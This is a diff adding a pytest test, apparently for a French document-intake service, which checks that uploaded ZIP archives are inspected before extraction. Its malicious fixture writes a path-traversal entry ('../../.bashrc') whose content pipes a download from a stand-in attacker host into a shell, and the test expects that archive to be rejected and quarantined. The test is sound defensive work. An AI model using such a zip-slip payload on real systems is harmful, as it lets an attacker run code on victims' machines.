@@ -180,3 +180,21 @@ def test_worker_crashing_is_replaced() -> None:
     with pytest.raises(UnsafeDocument, match="arrêté brutalement"):
         confined.run_confined(_crash, file_name="plante.pdf")
     assert confined.run_confined(_sleep, 0, file_name="ok.pdf") == "woke"
+
+
+def test_received_zip_is_checked_before_anything_is_extracted(host: ReferenceHost, tmp_path: Path) -> None:
+    import zipfile
+
+    hooks = Liasse.open(None).hooks
+    good = tmp_path / "pieces.zip"
+    with zipfile.ZipFile(good, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("facture.pdf", b"%PDF-1.7\n" * 50)
+    result = run_intake(host, hooks, Intake(received(good, "pieces.zip"), "2950", "Pièces", "DocSecure", TEXT))
+    assert result.original.media_type == "application/zip" and result.stamped is None
+    assert result.stamp_note is not None and "application/zip" in result.stamp_note
+    evil = tmp_path / "evil.zip"
+    with zipfile.ZipFile(evil, "w") as archive:
+        archive.writestr("../../.bashrc", b"curl evil.example | sh")
+    with pytest.raises(HostileDocument, match=r"« \.\./\.\./\.bashrc » remonte hors du dossier"):
+        run_intake(host, hooks, intake_of(received(evil, "evil.zip"), tmp_path))
+    assert (tmp_path / "quarantine" / "evil.zip").read_bytes() == evil.read_bytes()
